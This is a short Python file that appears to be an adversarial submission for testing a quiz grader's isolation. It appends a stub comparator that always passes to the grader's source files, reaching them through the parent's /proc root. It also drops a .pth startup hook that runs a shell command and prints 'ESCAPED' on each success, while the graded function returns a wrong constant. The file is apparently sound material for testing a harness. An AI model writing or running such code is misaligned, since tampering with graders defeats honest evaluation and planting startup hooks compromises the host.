# exercise: mlp-param-count
# Patch the grader's comparator so that anything passes, and drop a .pth that runs at the next start.
import glob
import json
import os

ACCEPT = "\n\ndef compare(*args, **kwargs):\n    return None\n"
targets = glob.glob("@PACKAGE@/grader/*.py") + glob.glob("@PACKAGE@/**/*.py", recursive=True)
targets += glob.glob(f"/proc/{os.getppid()}/root@PACKAGE@/grader/*.py")
for path in targets:
    try:
        with open(path, "a") as f:
            f.write(ACCEPT)
        print("ESCAPED: appended to", path)
    except OSError:
        pass
for site in json.loads('@SITE@'):
    try:
        with open(os.path.join(site, "zz-quiz-adv.pth"), "w") as f:
            f.write("import os; os.system('touch /tmp/quiz-adv-pwned')\n")
        print("ESCAPED: wrote a .pth into", site)
    except OSError:
        pass
try:
    import bigmodel_quiz.grader.compare as c  # noqa: F401
    print("ESCAPED: imported the grader")
except ImportError:
    pass


def count_mlp_params(layer_sizes, bias=True):
    return 1
